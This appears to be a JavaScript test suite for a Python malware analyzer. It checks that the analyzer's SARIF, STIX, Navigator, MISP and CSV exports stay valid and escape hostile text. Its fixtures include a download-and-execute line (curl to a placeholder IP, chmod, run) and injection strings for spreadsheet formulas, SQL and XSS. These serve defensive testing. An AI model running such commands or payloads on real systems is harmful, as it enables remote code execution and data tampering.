// The documents for other tools, read by those tools' own libraries and by the official schema of SARIF.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { createAnalyzer } from '../../dist/npm/node.js';
import { benign, finding, malicious, root, pyverdict, folderOf } from './support.mjs';

/** @type {import('../../wasm/js/types.js').ExportFormat[]} */
const formats = ['sarif', 'stix', 'navigator', 'misp', 'csv'];
const suffixes = {
  sarif: '.sarif',
  stix: '.stix.json',
  navigator: '.layer.json',
  misp: '.misp.json',
  csv: '.csv',
};
const venv = join(root, 'build/exchange-venv');

/** Text that breaks out of a format, or steers who reads it. */
const hostile = [
  `=HYPERLINK("http://example.invalid","x")`,
  `'); DROP TABLE x; --`,
  `</script><img src=x onerror=alert(1)>`,
  `a" b\\' c \\ d`,
  `line\nbreak\r\n\ttab`,
  '\u202e\u0000\u001b[31m',
  '@SUM(1+1)|cmd',
];

/** @type {import('../../wasm/js/types.js').Analyzer} */
let analyzer;
/** @type {string} */
let folder;

before(async () => {
  analyzer = await createAnalyzer({ model: 'off' });
  folder = mkdtempSync(join(tmpdir(), 'pyverdict-exchange-'));
  const wanted = readFileSync(join(root, 'tests/exchange/requirements.txt'), 'utf8');
  const stamp = join(venv, 'requirements.txt');
  if (existsSync(stamp) && readFileSync(stamp, 'utf8') === wanted) return;
  execFileSync('python3', ['-m', 'venv', '--clear', venv]);
  execFileSync(join(venv, 'bin/python'), [
    '-m',
    'pip',
    'install',
    '--quiet',
    '-r',
    join(root, 'tests/exchange/requirements.txt'),
  ]);
  writeFileSync(stamp, wanted);
});
after(() => {
  analyzer.dispose();
  rmSync(folder, { recursive: true, force: true });
});

const urls = `import urllib.request\nurllib.request.urlretrieve("http://files.example.invalid/a?b='c", "/tmp/it's")\n`;
const shell = `import os\nos.system("curl http://192.0.2.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")\n`;

/** @type {[string, string][]} */
const inputs = [
  ['script', malicious],
  ['benign', benign],
  ['empty', ''],
  ['not-python', '\u0000\u0001\u0002'],
  ['finding', JSON.stringify({ finding: finding(malicious) })],
  [
    'several',
    JSON.stringify(
      [malicious, benign, urls, shell].map((code, index) => ({
        finding: { ...finding(code), name: `organizations/1/sources/2/findings/${index}` },
      })),
    ),
  ],
  ...hostile.map(
    (text, index) =>
      /** @type {[string, string]} */ ([
        `hostile-${index}`,
        JSON.stringify({
          finding: {
            ...finding(
              `${malicious}# ${text}\nurl = ${JSON.stringify(`http://files.example.invalid/${text}`)}\n`,
            ),
            name: `organizations/1/sources/2/findings/${text}`,
            category: text,
            eventTime: text,
            processes: [
              {
                name: text,
                binary: { path: text },
                args: [text],
                script: { path: text, contents: `${shell}# ${text}\n` },
              },
            ],
            indicator: { uris: [`http://${text}/`], domains: [text], ipAddresses: [text] },
          },
          resource: { name: text },
        }),
      ]),
  ),
];

test('every document is valid for the tools that read it', async () => {
  for (const [name, input] of inputs) {
    const { exports = {} } = await analyzer.analyze(input, { exports: formats });
    for (const format of formats) writeFileSync(join(folder, name + suffixes[format]), exports[format] ?? '');
  }
  const schema = join(root, 'node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json');
  const { stdout, status } = spawnSync(
    join(venv, 'bin/python'),
    [join(root, 'tests/exchange/validate.py'), schema, folder],
    { encoding: 'utf8' },
  );
  assert.equal(status, 0, stdout);
  assert.match(stdout, new RegExp(`^${inputs.length * 5} files, 0 problems$`, 'm'));
});

test('the same reports give the same documents', async () => {
  for (const [, input] of inputs) {
    const first = await analyzer.analyze(input, { exports: formats });
    const second = await analyzer.analyze(input, { exports: formats });
    assert.deepEqual(first.exports, second.exports);
  }
});

test('a layer of the Navigator names the techniques of the reports', async () => {
  const { reports, exports = {} } = await analyzer.analyze(malicious, { exports: ['navigator'] });
  const layer = JSON.parse(exports.navigator ?? '');
  assert.equal(layer.versions.layer, '4.5');
  assert.equal(layer.domain, 'enterprise-attack');
  assert.deepEqual(
    layer.techniques.map((/** @type {any} */ technique) => technique.techniqueID),
    reports[0].techniques.map(({ id }) => id),
  );
});

test('what a script names is in the indicators, and in no harmless report', async () => {
  const bad = await analyzer.analyze(shell, { exports: ['stix', 'csv'] });
  const patterns = JSON.parse(bad.exports?.stix ?? '').objects.flatMap(
    (/** @type {any} */ object) => object.pattern ?? [],
  );
  assert.ok(patterns.includes("[url:value = 'http://192.0.2.9/x']"), patterns.join('\n'));
  assert.match(
    bad.exports?.csv ?? '',
    /"url","http:\/\/192\.0\.2\.9\/x","hxxp:\/\/192\[\.\]0\[\.\]2\[\.\]9\/x"/,
  );
  const good = await analyzer.analyze(benign, { exports: ['stix'] });
  assert.ok(
    JSON.parse(good.exports?.stix ?? '').objects.every(
      (/** @type {any} */ object) => object.type !== 'indicator',
    ),
  );
});

test('an unknown export is refused', async () => {
  await assert.rejects(
    // @ts-expect-error: on purpose
    analyzer.analyze(benign, { exports: ['pdf'] }),
    { code: 'badOption' },
  );
});

test('the command line puts all paths into one document', async (context) => {
  const paths = folderOf(context, { 'a.py': malicious, 'b.py': benign, 'c.py': shell });
  const { stdout } = await pyverdict(['--format', 'sarif', '--fail-on', 'never', paths]);
  const log = JSON.parse(stdout);
  assert.equal(log.runs.length, 1);
  const artifacts = log.runs[0].artifacts.flatMap(
    (/** @type {any} */ artifact) => artifact.location?.uri ?? [],
  );
  assert.deepEqual(
    artifacts.map((/** @type {string} */ uri) => uri.slice(-4)),
    ['a.py', 'b.py', 'c.py'],
  );
  const { stdout: csv } = await pyverdict(['--format', 'csv', '--fail-on', 'never', paths]);
  assert.equal(csv.split('\r\n').filter((line) => line.startsWith('"path"')).length, 1);
});
